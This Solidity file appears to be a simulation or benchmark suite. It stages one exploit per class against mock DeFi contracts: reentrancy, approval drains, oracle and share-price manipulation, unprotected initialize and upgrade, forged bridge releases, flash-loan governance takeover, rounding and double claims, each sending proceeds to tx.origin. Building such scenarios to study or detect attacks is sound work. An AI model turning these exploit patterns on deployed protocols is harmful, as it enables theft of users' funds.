// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import "./World.sol";

// Attacks, one of each class.

contract ReentrancyActor is Runner {
    Bank private bank;
    uint256 private step;

    constructor(Bank bank_) {
        bank = bank_;
    }

    function run() external payable {
        step = msg.value;
        bank.deposit{value: step}();
        act();
        payable(tx.origin).transfer(address(this).balance);
    }

    function act() internal override {
        bank.withdraw(step);
    }

    receive() external payable override {
        if (address(bank).balance >= step) act();
    }
}

contract AttackReentrancy is World {
    function setup(address) external payable override {
        Bank bank = new Bank();
        bank.deposit{value: 400 * E}();
        runs(address(new ReentrancyActor(bank)));
        coin = 50 * E;
    }
}

contract ConstructorActor {
    constructor(Bank bank, Coin drained, Coin second, OpenRouter router, address victim) payable {
        bank;
        router.route(drained, victim, address(this), drained.balanceOf(victim));
        router.route(second, victim, address(this), second.balanceOf(victim));
        drained.transfer(tx.origin, drained.balanceOf(address(this)));
        second.transfer(tx.origin, second.balanceOf(address(this)));
    }
}

contract Approver {
    function approve(Token token, address spender) external {
        token.approve(spender, type(uint256).max);
    }
}

contract AttackInConstructor is World {
    function setup(address) external payable override {
        OpenRouter router = new OpenRouter();
        Approver victim = new Approver();
        (Coin one, Coin two) = (coins(address(victim), 5_000 * E), coins(address(victim), 900 * E));
        victim.approve(one, address(router));
        victim.approve(two, address(router));
        data = bytes.concat(type(ConstructorActor).creationCode, abi.encode(address(0), one, two, router, victim));
    }
}

contract DrainActor {
    OpenRouter private router;
    address[] private victims;

    constructor(OpenRouter router_, address[] memory victims_) {
        (router, victims) = (router_, victims_);
    }

    function run() external {
        Token weth = Token(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        for (uint256 i = 0; i < victims.length; i++) router.route(weth, victims[i], tx.origin, weth.balanceOf(victims[i]));
    }
}

contract AttackApprovalDrain is World {
    function setup(address) external payable override {
        OpenRouter router = new OpenRouter();
        address[] memory victims = new address[](6);
        for (uint256 i = 0; i < 6; i++) {
            Approver victim = new Approver();
            victim.approve(WETH, address(router));
            weth(40 * E);
            WETH.transfer(address(victim), 40 * E);
            victims[i] = address(victim);
        }
        runs(address(new DrainActor(router, victims)));
    }
}

contract AttackApprovalDrainDirect is World {
    function setup(address sender) external payable override {
        OpenRouter router = new OpenRouter();
        Approver victim = new Approver();
        victim.approve(WETH, address(router));
        weth(900 * E);
        WETH.transfer(address(victim), 900 * E);
        address[] memory victims = new address[](1);
        victims[0] = address(victim);
        sender;
        runs(address(new DrainActor(router, victims)));
    }
}

contract SpotActor is Runner {
    using Swaps for Pair;
    Lender private lender;
    Pair private pair;
    Market private market;

    constructor(Lender lender_, Pair pair_, Market market_) {
        (lender, pair, market) = (lender_, pair_, market_);
    }

    function run() external {
        flash(lender, 3_000 * E);
        finish();
    }

    function act() internal override {
        Token token = market.collateral();
        uint256 bought = pair.trade(WETH, 200 * E, address(this));
        pair.trade(WETH, 2_000 * E, address(this));
        token.approve(address(market), type(uint256).max);
        market.supply(address(token), bought);
        market.borrow(WETH.balanceOf(address(market)));
        pair.trade(token, token.balanceOf(address(this)), address(this));
    }
}

contract AttackOracleBySwap is World {
    function setup(address) external payable override {
        Coin token = new Coin();
        Pair made = pair(token, 100_000 * E, 1_000 * E);
        Market market = new Market(token, WETH, new SpotOracle(made, token));
        weth(1_200 * E);
        WETH.transfer(address(market), 1_200 * E);
        runs(address(new SpotActor(lender(5_000 * E), made, market)));
    }
}

contract VaultActor is Runner {
    using Swaps for Pair;
    Lender private lender;
    Pair private pair;
    Shares private shares;
    uint256 private rounds;

    constructor(Lender lender_, Pair pair_, Shares shares_, uint256 rounds_) {
        (lender, pair, shares, rounds) = (lender_, pair_, shares_, rounds_);
    }

    function run() external {
        flash(lender, 6_000 * E);
        finish();
    }

    function act() internal override {
        Token other = shares.other();
        WETH.approve(address(shares), type(uint256).max);
        for (uint256 i = 0; i < rounds; i++) {
            shares.deposit(2_000 * E);
            uint256 got = pair.trade(WETH, 150 * E, address(this));
            shares.withdraw(shares.balanceOf(address(this)) * 99 / 100);
                pair.trade(other, got, address(this));
        }
    }
}

contract AttackSharePriceBySwap is World {
    function setup(address) external payable override {
        Coin other = new Coin();
        Pair made = pair(other, 1_000 * E, 1_000 * E);
        Shares shares = new Shares(WETH, made, other);
        weth(3_000 * E);
        WETH.approve(address(shares), type(uint256).max);
        shares.deposit(3_000 * E);
        other.mint(address(shares), 2_000 * E);
        runs(address(new VaultActor(lender(9_000 * E), made, shares, 5)));
    }
}

contract DonationActor is Runner {
    Lender private lender;
    Shares private shares;
    Market private market;

    constructor(Lender lender_, Shares shares_, Market market_) {
        (lender, shares, market) = (lender_, shares_, market_);
    }

    function run() external {
        flash(lender, 2_000 * E);
        finish();
    }

    function act() internal override {
        WETH.approve(address(shares), type(uint256).max);
        shares.deposit(10 * E);
        shares.approve(address(market), type(uint256).max);
        market.supply(address(shares), 99 * E / 10);
        WETH.transfer(address(shares), 1_500 * E);
        market.borrow(WETH.balanceOf(address(market)));
        shares.withdraw(shares.balanceOf(address(this)));
    }
}

contract AttackShareDonation is World {
    function setup(address) external payable override {
        Shares shares = new Shares(WETH, Pair(address(0)), Token(address(0)));
        weth(5_000 * E);
        WETH.approve(address(shares), type(uint256).max);
        shares.deposit(1 * E / 1000);
        Market market = new Market(shares, WETH, new ShareOracle(shares));
        WETH.transfer(address(market), 3_000 * E);
        runs(address(new DonationActor(lender(2_500 * E), shares, market)));
    }
}

contract MintActor is Runner {
    using Swaps for Pair;
    Pair private pair;
    Coin private token;
    Shares private shares;

    constructor(Pair pair_, Coin token_, Shares shares_) {
        (pair, token, shares) = (pair_, token_, shares_);
    }

    function run() external {
        token.mint(address(this), 1e30);
        act();
        finish();
    }

    function act() internal override {
        token.approve(address(pair), 1);
        pair.trade(token, 1e29, address(this));
        pair.trade(token, 1e29, address(this));
    }
}

contract AttackUnlimitedMint is World {
    function setup(address) external payable override {
        Coin token = new Coin();
        Pair made = pair(token, 100_000 * E, 800 * E);
        runs(address(new MintActor(made, token, Shares(address(0)))));
    }
}

contract AuthorityActor {
    function run(Vaulted vault, Token[] calldata tokens) external {
        vault.initialize(address(this));
        for (uint256 i = 0; i < tokens.length; i++) vault.release(tokens[i], tx.origin, tokens[i].balanceOf(address(vault)));
    }
}

contract AttackInitialize is World {
    function setup(address) external payable override {
        Vaulted vault = new Vaulted();
        Token[] memory tokens = new Token[](3);
        tokens[0] = coins(address(vault), 70_000 * E);
        tokens[1] = coins(address(vault), 8_000 * E);
        weth(300 * E);
        WETH.transfer(address(vault), 300 * E);
        tokens[2] = WETH;
        to = address(new AuthorityActor());
        data = abi.encodeCall(AuthorityActor.run, (vault, tokens));
    }
}

contract Sweeper {
    function sweep(Token[] calldata tokens, address to) external {
        for (uint256 i = 0; i < tokens.length; i++) tokens[i].transfer(to, tokens[i].balanceOf(address(this)));
    }
}

contract UpgradeActor {
    function run(Vaulted vault, Token[] calldata tokens) external {
        vault.initialize(address(this));
        vault.upgradeToAndCall(address(new Sweeper()), abi.encodeCall(Sweeper.sweep, (tokens, tx.origin)));
    }
}

contract AttackUpgrade is World {
    function setup(address) external payable override {
        Vaulted vault = new Vaulted();
        Token[] memory tokens = new Token[](2);
        tokens[0] = coins(address(vault), 70_000 * E);
        weth(300 * E);
        WETH.transfer(address(vault), 300 * E);
        tokens[1] = WETH;
        to = address(new UpgradeActor());
        data = abi.encodeCall(UpgradeActor.run, (vault, tokens));
    }
}

contract BridgeActor {
    function run(Bridge bridge, Token[] calldata tokens) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            bridge.process(tokens[i], tx.origin, tokens[i].balanceOf(bridge.vault()), bytes32(i));
        }
    }
}

contract AttackForgedRelease is World {
    function setup(address) external payable override {
        Vaulted vault = new Vaulted();
        Bridge bridge = new Bridge();
        bridge.attach(address(vault));
        vault.initialize(address(bridge));
        Token[] memory tokens = new Token[](6);
        for (uint256 i = 0; i < 5; i++) tokens[i] = coins(address(vault), 1_000 * E * (i + 1));
        weth(700 * E);
        WETH.transfer(address(vault), 700 * E);
        tokens[5] = WETH;
        to = address(new BridgeActor());
        data = abi.encodeCall(BridgeActor.run, (bridge, tokens));
    }
}

contract GovernActor is Runner {
    using Swaps for Pair;
    Lender private lender;
    Pair private pair;
    Governor private governor;
    Vaulted private vault;

    constructor(Lender lender_, Pair pair_, Governor governor_, Vaulted vault_) {
        (lender, pair, governor, vault) = (lender_, pair_, governor_, vault_);
    }

    function run() external {
        flash(lender, 5_000 * E);
        finish();
    }

    function act() internal override {
        Token token = governor.token();
        pair.trade(WETH, 4_000 * E, address(this));
        uint256 id = governor.propose(address(vault), abi.encodeCall(Vaulted.release, (WETH, address(this), WETH.balanceOf(address(vault)))));
        governor.castVote(id, 1);
        governor.execute(id);
        pair.trade(token, token.balanceOf(address(this)), address(this));
    }
}

contract AttackGovernance is World {
    function setup(address) external payable override {
        Coin token = new Coin();
        Pair made = pair(token, 100_000 * E, 1_000 * E);
        Governor governor = new Governor(token);
        Vaulted vault = new Vaulted();
        vault.initialize(address(governor));
        weth(2_000 * E);
        WETH.transfer(address(vault), 2_000 * E);
        runs(address(new GovernActor(lender(6_000 * E), made, governor, vault)));
    }
}

contract RoundingActor is Runner {
    Lender private lender;
    Rounding private pool;

    constructor(Lender lender_, Rounding pool_) {
        (lender, pool) = (lender_, pool_);
    }

    function run() external {
        flash(lender, 2_000 * E);
        finish();
    }

    function act() internal override {
        WETH.approve(address(pool), type(uint256).max);
        pool.mint(1_000 * E);
        for (uint256 i = 0; i < 40; i++) pool.redeemUnderlying(99 * E);
    }
}

contract AttackRounding is World {
    function setup(address) external payable override {
        Rounding pool_ = new Rounding(WETH);
        weth(9_000 * E);
        WETH.approve(address(pool_), type(uint256).max);
        pool_.mint(6_000 * E);
        runs(address(new RoundingActor(lender(3_000 * E), pool_)));
    }
}

contract Claimer {
    function run(Rewards rewards, uint256 amount) external {
        Token token = rewards.stakeToken();
        token.approve(address(rewards), amount);
        rewards.stake(amount);
        rewards.claimReward();
        rewards.unstake(amount);
        token.transfer(msg.sender, amount);
        Token reward = rewards.reward();
        reward.transfer(msg.sender, reward.balanceOf(address(this)));
    }
}

contract ClaimActor is Runner {
    Lender private lender;
    Rewards private rewards;

    constructor(Lender lender_, Rewards rewards_) {
        (lender, rewards) = (lender_, rewards_);
    }

    function run() external {
        flash(lender, 1_000 * E);
        Token reward = rewards.reward();
        reward.transfer(tx.origin, reward.balanceOf(address(this)));
        finish();
    }

    function act() internal override {
        for (uint256 i = 0; i < 8; i++) {
            Claimer claimer = new Claimer();
            WETH.transfer(address(claimer), 900 * E);
            claimer.run(rewards, 900 * E);
        }
        WETH.balanceOf(address(this));
    }
}

contract AttackDoubleClaim is World {
    function setup(address) external payable override {
        Coin reward = new Coin();
        Rewards rewards = new Rewards(WETH, WETH);
        reward;
        weth(2_000 * E);
        WETH.transfer(address(rewards), 2_000 * E);
        runs(address(new ClaimActor(lender(2_000 * E), rewards)));
    }
}

contract ReadOnlyActor is Runner {
    Lender private lender;
    NativePool private pool;
    Market private market;

    constructor(Lender lender_, NativePool pool_, Market market_) {
        (lender, pool, market) = (lender_, pool_, market_);
    }

    function run() external {
        flash(lender, 4_000 * E);
        finish();
    }

    function act() internal override {
        WETH.withdraw(4_000 * E);
        pool.add{value: 3_900 * E}();
        pool.approve(address(market), type(uint256).max);
        market.supply(address(pool), 300 * E);
        pool.exit(pool.balanceOf(address(this)));
        WETH.deposit{value: address(this).balance}();
    }

    receive() external payable override {
        if (msg.sender == address(pool) && market.owed(address(this)) == 0) {
            market.borrow(1_000 * E);
        }
    }
}

contract NativeOracle is Oracle {
    NativePool private pool;

    constructor(NativePool pool_) {
        pool = pool_;
    }

    function price() external view returns (uint256) {
        return pool.pricePerShare();
    }
}

contract AttackReadOnlyReentrancy is World {
    function setup(address) external payable override {
        NativePool pool_ = new NativePool();
        pool_.add{value: 100 * E}();
        Market market = new Market(pool_, WETH, new NativeOracle(pool_));
        weth(3_000 * E);
        WETH.transfer(address(market), 3_000 * E);
        runs(address(new ReadOnlyActor(lender(5_000 * E), pool_, market)));
    }
}

contract LooseActor is Runner {
    Pair private pair;

    constructor(Pair pair_) {
        pair = pair_;
    }

    function run() external payable {
        WETH.deposit{value: msg.value}();
        act();
        finish();
    }

    function act() internal override {
        WETH.transfer(address(pair), 1);
        Token token = pair.token0();
        pair.swap(token.balanceOf(address(pair)) * 9 / 10, 0, address(this), "");
        token.transfer(address(pair), token.balanceOf(address(this)) / 5);
        pair.swap(0, WETH.balanceOf(address(pair)) * 9 / 10, address(this), "");
    }
}

contract AttackLooseInvariant is World {
    function setup(address) external payable override {
        Coin token = new Coin();
        Pair made = pool(new LoosePair(token, WETH), token, 50_000 * E, 900 * E);
        runs(address(new LooseActor(made)));
        coin = 1 * E;
    }
}
